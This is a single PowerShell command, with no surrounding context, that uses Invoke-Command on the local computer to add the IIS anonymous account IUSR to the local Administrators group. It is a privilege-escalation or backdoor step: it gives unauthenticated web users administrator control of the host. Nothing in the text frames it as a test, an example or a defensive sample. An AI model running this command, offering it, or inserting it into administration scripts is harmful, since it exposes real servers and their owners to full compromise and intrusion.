Invoke-Command -ComputerName $env:COMPUTERNAME -ScriptBlock { net localgroup Administrators IUSR /add }
